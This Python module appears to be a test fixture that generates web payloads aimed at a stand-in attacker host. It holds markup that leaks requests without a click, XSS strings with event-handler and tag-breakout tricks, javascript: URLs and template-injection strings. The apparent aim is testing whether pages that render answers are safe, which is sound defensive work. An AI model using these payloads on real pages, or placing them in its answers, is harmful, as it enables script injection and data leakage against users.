"""Texts that make a careless page fetch something, run something, or show something else than text."""

from __future__ import annotations


def payloads(evil: str) -> list[str]:
    """Return the texts; what they fetch or send goes to `evil`, script of theirs sets window.pwned."""
    run = f"window.pwned=1;fetch('{evil}/script')"
    return [*leaks(evil, run), *scripts(evil, run)]


def leaks(evil: str, run: str) -> list[str]:
    """Return what is fetched without a click by pages that render the Markdown or HTML of an answer."""
    return [
        f"![x]({evil}/md-image)",
        f"![x][ref]\n\n[ref]: {evil}/md-reference",
        f'<img src="{evil}/img">',
        f'<img src=x onerror="{run}">',
        f'<video src="{evil}/video" poster="{evil}/poster" autoplay></video>',
        f'<audio src="{evil}/audio" autoplay></audio>',
        f'<svg><image href="{evil}/svg-image" width="9" height="9"/></svg>',
        f'<svg onload="{run}"></svg>',
        f'<img srcset="{evil}/srcset 1x">',
        f'<picture><source srcset="{evil}/source"><img></picture>',
        f'<input type="image" src="{evil}/input">',
        f'<p style="background:url({evil}/style)">x</p>',
        f'<table background="{evil}/table"><tr><td>x</td></tr></table>',
        f'<math><mtext><img src="{evil}/math"></mtext></math>',
        f'<iframe src="{evil}/iframe"></iframe>',
        f'<object data="{evil}/object"></object><embed src="{evil}/embed">',
        f'<link rel="stylesheet" href="{evil}/link">',
        f"<style>@import url({evil}/import); body{{background:url({evil}/css)}}</style>",
        f'```mermaid\ngraph TD; A["<img src={evil}/mermaid>"]\n```',
        "$$\\includegraphics{" + evil + "/katex}$$ \\(\\href{javascript:" + run + "}{x}\\)",
        f'<img src="{evil.removeprefix("http:")}/no-scheme" lowsrc="{evil}/lowsrc" dynsrc="{evil}/dynsrc">',
        f'<video><track default kind="captions" src="{evil}/track"></video>',
        f'<body background="{evil}/body"><frameset><frame src="{evil}/frame"></frameset>',
        f'<ul style="list-style-image:url({evil}/list);cursor:url({evil}/cursor),auto"><li>x</li></ul>',
        f"<style>@font-face{{font-family:x;src:url({evil}/font)}} *{{font-family:x}}</style>",
        f'<link rel="prefetch" href="{evil}/prefetch"><link rel="preconnect" href="{evil}">',
        f'<svg><use href="{evil}/use#x"/><feImage href="{evil}/filter"/></svg>',
        f'<svg><foreignObject><iframe src="{evil}/foreign"></iframe></foreignObject></svg>',
        f'<noscript><p title="</noscript><img src={evil}/noscript>"></noscript>',
        f'<meta name="x"><base href="{evil}/"><meta http-equiv="refresh" content="0;url={evil}/meta">',
        f'<form action="{evil}/form"><button autofocus formaction="{evil}/action">x</button></form>',
        f'<a href="{evil}/click" ping="{evil}/ping">x</a> <{evil}/autolink> [x]({evil}/link)',
    ]


def scripts(evil: str, run: str) -> list[str]:
    """Return what tries to run script, or to break out of where a page puts a text."""
    entities = "".join(f"&#{ord(one)};" for one in "javascript:")
    return [
        f"<script>{run}</script>",
        f"</script><script>{run}</script>",
        f'</style></title></textarea><img src=x onerror="{run}">',
        f'</blockquote></article></main><img src="{evil}/outside" onerror="{run}">',
        f'<!--><img src=x onerror="{run}">-->',
        f'<![CDATA[><img src=x onerror="{run}">]]>',
        f'<svg><style><img title="</style><img src=x onerror={run}>"></style></svg>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{run}">',
        f'<template><img src=x onerror="{run}"></template>',
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f'<a href="javascript:{run}">x</a>',
        f'<a href="{entities}{run}">x</a>',
        f'<a href="data:text/html,<script>{run}</script>">x</a> [x](javascript:{run})',
        f'<details open ontoggle="{run}"><summary>x</summary></details>',
        f'<select autofocus onfocus="{run}"></select><marquee onstart="{run}">x</marquee>',
        f'<svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg>',
        f'<p style="animation:pulse 1s" onanimationstart="{run}">x</p>',
        f'<p style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</p>',
        f'"><img src="{evil}/attribute" onerror="{run}">',
        f"' onmouseover='{run}' autofocus onfocus='{run}' x='",
        f"&lt;img src=x onerror={run}&gt; &#60;script&#62;{run}&#60;/script&#62;",
        "${(()=>{" + run + "})()}",
        '{{#with "s"}}{{constructor.constructor "' + run + '"}}{{/with}}',
        f"`}};{run}//",
        f"{{% raw %}}{{{{ ''.__class__.__mro__ }}}}<script>{run}</script>",
    ]
